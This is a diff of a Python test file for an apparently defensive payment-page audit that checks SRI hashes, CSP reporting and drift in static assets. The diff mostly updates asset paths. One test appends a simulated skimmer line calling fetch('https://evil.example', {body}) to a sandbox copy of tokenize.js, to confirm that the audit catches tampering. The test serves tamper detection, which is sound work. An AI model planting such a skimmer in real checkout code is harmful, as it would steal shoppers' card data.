@@ -98,7 +98,10 @@ def test_every_asset_carries_a_matching_sri_hash(app_server):
             integrity = re.search(r'integrity="([^"]+)"', tag)
             assert integrity, f"{src.group(1)} has no integrity attribute"
             declared[src.group(1)] = integrity.group(1)
-    assert len(declared) >= 10
+    # Every module the page can load (lazy French included) and its stylesheets, and nothing else.
+    assert sorted(declared) == ["/static/css/form.css", "/static/css/page.css", "/static/js/card.js",
+                                "/static/js/form.js", "/static/js/i18n-fr.js", "/static/js/page.js",
+                                "/static/js/tokenize.js"]
     for path, digest in declared.items():
         assert digest.startswith("sha384-")
         assert sri(requests.get(app_server.url + path, timeout=TIMEOUT).content) == digest, path
@@ -117,14 +120,14 @@ def test_inventory_detects_a_change(tmp_path):
     static = tmp_path / "static"
     shutil.copytree(ROOT / "static", static)
     before = inventory(str(static))["assets"]
-    (static / "js" / "shared" / "api.js").write_text("/* changed */\n", encoding="utf-8")
+    (static / "js" / "form.js").write_text("/* changed */\n", encoding="utf-8")
     from server.assets import hashes
 
     hashes.cache_clear()
     after = inventory(str(static))["assets"]
     changed = [a["path"] for a, b in zip(before, after, strict=True) if a["sha384"] != b["sha384"]]
     hashes.cache_clear()
-    assert changed == ["/static/js/shared/api.js"]
+    assert changed == ["/static/js/form.js"]
 
 
 # -- proxies -----------------------------------------------------------------------------------------------
@@ -318,7 +321,7 @@ def test_csp_report_endpoint_survives_junk(app_server, body):
 def test_audit_passes_against_the_app_and_its_own_baseline(app_server):
     passed, report, snapshot = run_audit(app_server.url + "/pay", SHOP)
     assert passed, report
-    assert "[frame]" in report and "/static/js/form/frame.js" in report
+    assert "[frame]" in report and "/static/js/frame.js" in report
     again, report, _ = run_audit(app_server.url + "/pay", SHOP, snapshot)
     assert again and "No drift" in report, report
 
@@ -331,12 +334,12 @@ def test_audit_fails_after_a_script_changes(sandbox_server, tmp_path):
     try:
         passed, report, baseline = run_audit(server.url + "/pay", SHOP)
         assert passed, report
-        tampered = static / "js" / "shared" / "tokenize.js"
+        tampered = static / "js" / "tokenize.js"
         tampered.write_text(tampered.read_text() + "\n// skimmer: fetch('https://evil.example', {body})\n")
         passed, report, _ = run_audit(server.url + "/pay", SHOP, baseline)
         assert not passed
-        assert "/static/js/shared/tokenize.js does not match its SRI hash" in report
-        assert "DRIFT: [card form] script /static/js/shared/tokenize.js changed" in report
+        assert "/static/js/tokenize.js does not match its SRI hash" in report
+        assert "DRIFT: [card form] script /static/js/tokenize.js changed" in report
     finally:
         server.stop()
 
@@ -360,7 +363,7 @@ def test_audit_cli_exit_codes(app_server, tmp_path):
     assert ok.returncode == 0, ok.stdout + ok.stderr
     assert "Result: PASS" in ok.stdout and baseline.exists()
     data = json.loads(baseline.read_text())
-    data["pages"]["card form"]["assets"]["/static/js/form/main.js"] = "sha384-old"
+    data["pages"]["card form"]["assets"]["/static/js/page.js"] = "sha384-old"
     baseline.write_text(json.dumps(data))
     drifted = subprocess.run([sys.executable, "-m", "server.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                               "--baseline", str(baseline)], capture_output=True, text=True, timeout=60)
